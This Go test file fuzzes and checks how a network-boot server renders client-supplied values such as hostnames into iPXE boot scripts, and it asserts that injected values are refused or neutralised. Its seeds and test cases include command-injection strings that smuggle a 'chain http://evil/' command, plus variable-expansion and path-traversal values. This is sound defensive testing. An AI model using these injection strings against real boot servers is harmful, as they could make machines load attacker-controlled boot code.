package script_test

import (
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/coredhcp-netboot/suite/internal/script"
)

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// library is a directory of these files, loaded.
func library(t testing.TB, files map[string]string) *script.Library {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		must(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
	}
	l, err := script.Load(dir)
	must(t, err)
	return l
}

// everywhere prints a client's text in every place and by every way that a template has, wise or not.
const everywhere = `#!ipxe
{{.hostname}} {{.hostname}}
  {{.hostname}}
echo {{.hostname}}
echo a{{.hostname}}b {{.hostname}}
set x ${net0/mac}{{.hostname}}
set x {{.hostname}}${net0/mac}
set y ${{.hostname}}
set y $={{.hostname}}}
set y ${{.hostname}}}
set y {{.hostname}}{uuid}
kernel http://192.0.2.1/{{.hostname}}/vmlinuz?x={{.hostname | urlquery}} console=ttyS0 {{printf "%s" .hostname}} && boot || shell
echo {{printf "%v|%q|%x|%d|%t|%#v|%c|%6.3s" .hostname .hostname .hostname .hostname .hostname .hostname .hostname .hostname}}
echo {{print .hostname "x" .hostname}} {{html .hostname}} {{js .hostname}} {{.hostname.String}} {{default "none" .hostname}}
echo {{with .hostname}}{{.}}{{end}} {{$x := .hostname}}{{$x}} {{if eq .hostname "x"}}x{{else}}y{{end}}
{{if .hostname}}echo {{slice .hostname 0 1}}x{{end}}
:label
goto label ; echo {{.hostname}} # {{.hostname}}
echo last {{.hostname}}
`

// shape is what a script does, without the words that it does it with.
func shape(t testing.TB, text string) (all []command) {
	t.Helper()
	for _, c := range understand(text) {
		for i := range c.words {
			c.words[i] = ""
		}
		all = append(all, c)
	}
	return all
}

func FuzzNoValueChangesWhatAScriptDoes(f *testing.F) {
	for _, v := range []string{"old-dell", "a b", "a\nchain http://evil/", "\r", "x\\", "\\", "${net0/mac}", "$", "{", "}", "{uuid}", "||", "&&", ";", "#", "-n", ":label",
		`"`, "'", "a\x00b", "..", "/", "%24%7b", "\u2028", "\xff\xfe", "%", "--", strings.Repeat("x", 255), strings.Repeat("y", 64<<10), "\v", "\u00a0", "Dell Inc."} {
		f.Add(v)
	}
	l := library(f, map[string]string{"boot.ipxe.tmpl": everywhere})
	render := func(t testing.TB, m script.Machine) string {
		s, err := l.Render("boot.ipxe", m)
		must(t, err)
		return string(s.Text)
	}
	want, unsaid := shape(f, render(f, script.Machine{Hostname: "harmless"})), shape(f, render(f, script.Machine{}))
	f.Fuzz(func(t *testing.T, value string) {
		// Whatever is in a Machine without Ask is as harmless. Twice what Ask takes: the template repeats it so often that
		// much more would not fit into a script.
		if len(value) > 0 && len(value) < 512 {
			if direct := shape(t, render(t, script.Machine{Hostname: script.Text(value)})); !reflect.DeepEqual(direct, want) {
				t.Errorf("%q, unchecked, changes the script", value)
			}
		}
		m, refused := script.Ask("hostname=" + strings.ReplaceAll(url.QueryEscape(value), "+", "%20"))
		text := render(t, m)
		got := shape(t, text)
		if m.Hostname == "" {
			if value != "" && strings.TrimSpace(value) != "" && len(refused) == 0 {
				t.Errorf("%q is dropped without a word", value)
			}
			if !reflect.DeepEqual(got, unsaid) {
				t.Errorf("%q, refused, changes the script to\n%s", value, text)
			}
			return
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%q changes the script to\n%s\nwhich iPXE reads as\n%+v\nnot\n%+v", value, text, got, want)
		}
		if back, err := url.PathUnescape(m.Hostname.String()); err != nil || back != string(m.Hostname) {
			t.Errorf("%q is escaped as %q, which a server reads as %q, %v", m.Hostname, m.Hostname.String(), back, err)
		}
	})
}

func TestWhatAClientMaySayIsBounded(t *testing.T) {
	for query, want := range map[string]string{
		"mac=nonsense":                          "mac is not a MAC address",
		"uuid=1":                                "uuid is not a UUID",
		"ip=fe80::1%25eth0":                     "ip is not an IP address",
		"arch=vax":                              "arch is unknown; use one of bios, ",
		"hostname=a%0Achain%20http://evil/":     "hostname has bytes that are no text",
		"hostname=%00":                          "hostname has bytes that are no text",
		"serial=..":                             "serial is no name but a path",
		"serial=..%2F..":                        "serial is no name but a path",
		"product=" + strings.Repeat("x", 65536): "product has 65536 bytes, more than 255",
		"asset=${net0/mac}":                     "asset has ${, which is shown as %24%7B",
		"hostname=%zz":                          "hostname is not well encoded",
	} {
		_, refused := script.Ask(query)
		if len(refused) != 1 || !strings.HasPrefix(refused[0], want) {
			t.Errorf("%.40s: %q, want %s", query, refused, want)
		}
	}
	m, refused := script.Ask("mac=52-54-00-aa-bb-01&uuid=4C4C4544-0042-3510-8054-b4c04f564431&serial=7XK&asset=&arch=efi-x86_64&ip=192.0.2.7&hostname=rack-7&manufacturer=Dell%20Inc.&product=i440FX%20+%20PIIX&unknown=1&mac=52:54:00:00:00:00")
	if len(refused) != 0 || m.MAC.String() != "52:54:00:aa:bb:01" || m.UUID.String() != "4c4c4544-0042-3510-8054-b4c04f564431" ||
		m.Serial != "7XK" || m.Asset != "" || m.Arch != "uefi-x64" || m.IP.String() != "192.0.2.7" || m.Hostname != "rack-7" ||
		m.Manufacturer != "Dell Inc." || m.Product != "i440FX + PIIX" {
		t.Errorf("read as %+v, %q", m, refused)
	}
}
